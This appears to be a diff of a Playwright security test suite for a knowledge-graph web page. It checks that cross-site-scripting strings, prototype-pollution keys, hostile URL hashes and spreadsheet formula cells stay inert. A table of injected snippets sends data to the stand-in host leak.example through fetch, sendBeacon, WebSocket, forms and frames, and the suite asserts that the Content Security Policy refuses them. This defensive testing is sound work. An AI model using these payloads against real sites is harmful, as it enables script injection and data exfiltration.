@@ -2,114 +2,201 @@
 
 from __future__ import annotations
 
+import csv
+import io
+from urllib.parse import quote
+
 import pytest
-from playwright.sync_api import expect
+from playwright.sync_api import Download, Page, expect
 
-from kg.model import Document, Entity, Mention, Relation, Source, Span, Statement
-from tests.browser import Open, two
+from tests.browser import Open, Opened, two
+from tests.hostile import CANARY, PAYLOADS, corpus, hostile, lexicon
+
+REFUSED = "securitypolicyviolation"
 
 
-class TestHostile:
-    """Text that tries to run, to hide or to break the page."""
+def harmless(shown: Opened) -> None:
+    """Nothing ran, nothing was even tried, and all elements are of the page's own kinds."""
+    tab = shown.tab
+    assert tab.evaluate("window.ran") is None
+    assert tab.evaluate("Object.keys(Object.prototype)") == []
+    foreign = "body :is(iframe, base, meta, object, embed, form, link, style, [onerror], [onload])"
+    assert tab.locator(foreign).count() == 0
+    assert tab.locator("body script").count() == 3
+    for name in ("href", "src", "xlink\\:href"):
+        found = tab.locator(f"[{name}]").evaluate_all(
+            f"(all) => all.map((one) => one.getAttribute('{name}'))"
+        )
+        ours = ("data:image/svg+xml,", "https://www.wikidata.org/wiki/Q", "#", "https://leak.ex")
+        assert [address for address in found if not address.startswith(ours)] == []
 
-    ATTACKS = (
-        "<script>document.title='hacked'</script>",
-        "</script><script>alert(1)</script>",
-        '<img src=x onerror="alert(1)">',
-        '" onmouseover="alert(1)',
-        "<a href='javascript:alert(1)'>href</a>",
-        "javascript:alert(1)",
-        "__proto__",
-        "constructor",
-        "\u202egnp.exe\u2066",
-        "{{7*7}}{% raw %}{#",
-        "<!--<script>",
-        "x" * 10_000,
+
+PRESS_ALL = """() => {
+  for (const place of ["#legend", "#side", "#chips", "header .tools", "#time"])
+    for (let number = 0; number < 80; number += 1) document.querySelectorAll(
+      `${place} :is(button, input, summary, [role=link], [role=option])`)[number]?.click();
+}"""
+
+
+def walk(shown: Opened) -> list[Download]:
+    """Use everything that the page offers; return what it gave to take along."""
+    tab, files = shown.tab, list[Download]()
+    tab.on("download", lambda file: files.extend([file]))
+    for _ in PAYLOADS:
+        tab.keyboard.press("n")
+        tab.locator("#network").focus()
+        tab.keyboard.press("Enter")
+    harmless(shown)
+    for view in shown.views():
+        tab.click(f"#{view}")
+        for heading in tab.locator("[role=tabpanel]:visible th button").all():
+            heading.click()
+        for words in ("href", "<script", "__proto__", "(.*)+$[", "\u202e"):
+            tab.locator("#query").fill(words)
+            tab.wait_for_timeout(20)
+            tab.locator("#query").press("Enter")
+        harmless(shown)
+    tab.evaluate(PRESS_ALL)
+    tab.keyboard.press("Escape")
+    tab.wait_for_timeout(100)
+    harmless(shown)
+    return files
+
+
+def test_nothing_of_the_corpus_runs_anywhere_on_the_page(open_page: Open) -> None:
+    shown = open_page(
+        *corpus(), lexicon=lexicon(), title=PAYLOADS[1], note=PAYLOADS[5], size=(1400, 900)
+    )
+    assert shown.tab.title() == PAYLOADS[1]
+    shown.tab.evaluate(
+        f"window.refused = []; addEventListener('{REFUSED}', (e) => refused.push(e))"
+    )
+    files = walk(shown)
+    assert shown.tab.evaluate("refused.length") == 0
+    (table,) = [file for file in files if file.suggested_filename.endswith(".csv")]
+    for row in csv.reader(io.StringIO(table.path().read_text(encoding="utf-8-sig"))):
+        assert not [cell for cell in row if cell[:1] in "=+-@\t\r" and cell[:1]]
+
+
+@pytest.mark.parametrize("attack", [p for p in PAYLOADS if "javascript" in p or "<" in p][:3])
+def test_names_are_shown_letter_by_letter(open_page: Open, attack: str) -> None:
+    shown = open_page(hostile((attack, "other")))
+    shown.search(attack)
+    shown.tab.keyboard.press("Enter")
+    expect(shown.tab.locator("#detail h2")).to_have_text(attack)
+    expect(shown.tab.locator("#article p").filter(has_text=attack)).to_have_text(attack)
+
+
+HASHES = (
+    "focus=<img src=x onerror=alert(1)>",
+    "focus=__proto__&view=__proto__&edge=__proto__&time=__proto__&hide=__proto__:__proto__",
+    "focus=constructor&view=constructor&score=constructor&hide=constructor:x&around=toString",
+    "view=javascript:alert(1)&statuses=<script>&types=__proto__&relations=hasOwnProperty",
+    "path=..&path=__proto__..constructor&hops=-1&hops=1e9&community=9999999&community=NaN",
+    "from=9999-99-99&to=0000-00-00&time=..&score=NaN&score=Infinity&edge=[]&edge={",
+    "from=2025-02-30&to=-1&edge=null&marks=null&undated=maybe",
+    "focus=%E0%A4%A&edge=%&%=%&%00=%00",
+    "focus=" + "x" * 200_000,
+    "&" * 5000 + "=" * 5000,
+    "hide=" + ",".join(f"type:{number}" for number in range(2000)),
+    quote("\u202eevil\ufeff\ud83d", errors="replace"),
+)
+
+
+def test_no_address_breaks_the_page(open_page: Open) -> None:
+    shown = open_page(two(), link="#" + HASHES[0])
+    for link in (*HASHES, *("focus=" + quote(p, errors="replace") for p in PAYLOADS)):
+        shown.tab.evaluate("(link) => { location.hash = link; }", link)
+        shown.tab.wait_for_timeout(10)
+        expect(shown.tab.locator("#counts")).to_contain_text("entities")
+    harmless(shown)
+    shown.tab.evaluate("location.hash = ''")
+    shown.search("macron")
+    shown.tab.keyboard.press("Enter")
+    expect(shown.tab.locator("#detail h2")).to_have_text("Emmanuel Macron")
+
+
+def test_the_page_listens_to_no_other_window(open_page: Open) -> None:
+    shown = open_page(two())
+    before = shown.tab.locator("body").inner_html()
+    for message in ("1", "{focus: 'n0', __proto__: {ran: 1}}", "'<img src=x>'", "[[]]", "null"):
+        shown.tab.evaluate(f"() => new Promise((done) => {{ postMessage({message}, '*'); "
+                           "setTimeout(done, 30); })")  # fmt: skip
+    assert shown.tab.locator("body").inner_html() == before
+    harmless(shown)
+
+
+def test_endless_names_and_words_do_not_widen_or_stop_the_page(open_page: Open) -> None:
+    attacks = ("x" * 1_000_000, "W" * 300, "اسم" * 100, "<b>" * 5000)
+    shown = open_page(hostile(attacks), title="t" * 1_000_000)
+    for view in shown.views():
+        shown.tab.click(f"#{view}")
+        shown.tab.keyboard.press("n")
+        assert shown.tab.evaluate("document.documentElement.scrollWidth") <= 1400
+        assert shown.tab.evaluate("document.getElementById('side').scrollWidth") <= 400
+
+
+INSERT = """const put = (html) => document.body.insertAdjacentHTML('beforeend', html);
+const make = (tag, given) => {
+  document.body.append(Object.assign(document.createElement(tag), given));
+};
+"""
+# What gets in all the same, and the directive that has to refuse it.
+INTRUDERS = {
+    "make('script', { textContent: 'RUN' })": "script-src-elem",
+    "make('script', { src: 'data:text/javascript,RUN' })": "script-src-elem",
+    "make('script', { src: 'https://leak.example/x.js' })": "script-src-elem",
+    "make('script', { src: URL.createObjectURL(new Blob(['RUN'])) })": "script-src-elem",
+    "make('script', { type: 'module', textContent: 'RUN' })": "script-src-elem",
+    "put('<b id=l onclick=\"RUN\">'); l.click()": "script-src-attr",
+    "put('<a id=l2 href=\"javascript:RUN\">x</a>'); l2.click()": "script-src-elem",
+    "put('<img src=\"data:,\" onerror=\"RUN\">')": "script-src-attr",
+    "try { eval('RUN') } catch { }": "script-src",
+    "try { Function('RUN')() } catch { }": "script-src",
+    "setTimeout('RUN')": "script-src",
+    "put('<style>body { display: none }</style>')": "style-src-elem",
+    "put('<p style=\"position: fixed\">')": "style-src-attr",
+    "put('<link rel=stylesheet href=\"https://leak.example/x.css\">')": "style-src-elem",
+    "new Image().src = 'https://leak.example/x.png'": "img-src",
+    "fetch('https://leak.example/').catch(() => 0)": "connect-src",
+    "fetch('data:,x').catch(() => 0)": "connect-src",
+    "navigator.sendBeacon('https://leak.example/', 'x')": "connect-src",
+    "try { new WebSocket('wss://leak.example/') } catch { }": "connect-src",
+    "try { new EventSource('https://leak.example/') } catch { }": "connect-src",
+    "try { new Worker('data:text/javascript,RUN') } catch { }": "worker-src",
+    "put('<form id=f action=\"https://leak.example/\"><input name=q value=1></form>'); f.submit()":
+        "form-action",
+    "put('<base href=\"https://leak.example/\">')": "base-uri",
+    "put('<iframe src=\"https://leak.example/\"></iframe>')": "frame-src",
+    "put('<iframe srcdoc=\"<script>parent.RUN</script>\"></iframe>')": "script-src-elem",
+    "put('<object data=\"https://leak.example/\"></object>')": "object-src",
+    "put('<audio src=\"https://leak.example/x.mp3\"></audio>')": "media-src",
+    "new FontFace('x', 'url(https://leak.example/x.woff)').load().catch(() => 0)": "font-src",
+}  # fmt: skip
+
+
+def provoke(tab: Page, attack: str) -> list[str]:
+    """Run an attack from inside the page; return the directives that refused something.
+
+    It runs in a task of its own: what a test evaluates directly may use `eval`.
+    """
+    return list(
+        tab.evaluate(
+            "() => new Promise((done) => { const refused = [];"
+            f"addEventListener('{REFUSED}', (event) => refused.push(event.effectiveDirective));"
+            f"setTimeout(() => {{ {INSERT} {attack.replace('RUN', CANARY)} }});"
+            "setTimeout(() => done(refused), 120); })"
+        )
     )
 
-    def document(self) -> Document:
-        """Everybody's name is an attack, and everybody briefs the next."""
-        text, entities, relations = "", [], []
-        for number, attack in enumerate(self.ATTACKS):
-            span = Span(len(text), len(text) + len(attack))
-            text += attack + "\n"
-            entities.append(Entity(attack[:40], "Person", attack, (Mention(span),), iri=attack))
-            if number:
-                relations.append(
-                    Relation(
-                        "briefed",
-                        entities[number - 1].id,
-                        attack[:40],
-                        "actual",
-                        span,
-                        title=attack,
-                        date=attack,
-                        by=attack,
-                    )
-                )
-        statements = (Statement(entities[0].id, Span(0, 20), "direct", cue=self.ATTACKS[2]),)
-        return Document(
-            id=self.ATTACKS[0],
-            text=text,
-            source=Source(url=self.ATTACKS[5], title=self.ATTACKS[1], publisher=self.ATTACKS[2]),
-            entities=tuple(entities),
-            relations=tuple(relations),
-            statements=statements,
-        )
 
-    def test_nothing_of_it_runs_anywhere_on_the_page(self, open_page: Open) -> None:
-        shown = open_page(self.document())
-        tab = shown.tab
-        for _ in self.ATTACKS:
-            tab.keyboard.press("n")
-            tab.locator("#network").focus()
-            tab.keyboard.press("Enter")
-        shown.search("href")
-        tab.keyboard.press("Escape")
-        for view in ("relations", "statements", "graph"):
-            tab.click(f"#view-{view}")
-            tab.wait_for_timeout(50)
-        shown.hover_middle()
-        expect(tab.locator('[data-entry="type:Person"] .number')).to_have_text(
-            str(len(self.ATTACKS))
-        )
-        assert tab.title() == "Talks"
-        assert tab.locator("#detail a, #article a, #table a").count() == 0
-
-    def test_long_words_do_not_widen_the_page(self, open_page: Open) -> None:
-        shown = open_page(self.document())
-        for view in ("graph", "relations", "statements"):
-            shown.tab.click(f"#view-{view}")
-            assert shown.tab.evaluate("document.documentElement.scrollWidth") <= 1400
-            assert shown.tab.evaluate("document.getElementById('side').scrollWidth") <= 400
-
-    @pytest.mark.parametrize(
-        "attack",
-        [
-            "const s = document.createElement('script'); s.textContent = 'window.ran = 1'; "
-            "document.body.append(s)",
-            "put('<img src=x onerror=\"window.ran = 1\">')",
-            "put('<a id=l href=\"javascript:window.ran = 1\">x</a>'); "
-            "document.getElementById('l').click()",
-            "put('<iframe srcdoc=\"<script>parent.ran = 1</script>\">')",
-            "const s = document.createElement('script'); "
-            "s.src = 'data:text/javascript,window.ran=1'; document.body.append(s)",
-        ],
-    )
-    def test_the_policy_stops_what_gets_in_all_the_same(self, open_page: Open, attack: str) -> None:
-        shown = open_page(two())
-        put = "const put = (html) => document.body.insertAdjacentHTML('beforeend', html);"
-        shown.tab.evaluate(f"() => {{ {put} {attack} }}")
-        shown.tab.wait_for_timeout(150)
-        assert shown.tab.evaluate("window.ran") is None
-        assert all("Content Security Policy" in words for words in shown.complaints)
+def test_the_policy_refuses_whatever_gets_in_all_the_same(open_page: Open) -> None:
+    shown = open_page(two())
+    for attack, directive in INTRUDERS.items():
+        refused = provoke(shown.tab, attack)
+        if "srcdoc" not in attack:  # it is refused inside the frame
+            assert directive in refused, (attack, refused)
+        assert shown.tab.evaluate("window.ran") is None, attack
+        assert shown.tab.url.startswith("file:"), attack
         shown.complaints.clear()
-        shown.requests.clear()  # what was refused is listed, too
-
-    def test_the_policy_lets_nothing_out(self, open_page: Open) -> None:
-        shown = open_page(two())
-        asked = "fetch('https://example.org/').then(() => 'sent', () => 'refused')"
-        assert shown.tab.evaluate(asked) == "refused"
-        assert "Content Security Policy" in shown.complaints.pop(0)
-        shown.complaints.clear()
-        shown.requests.clear()
+    shown.requests.clear()  # what was refused is listed, too
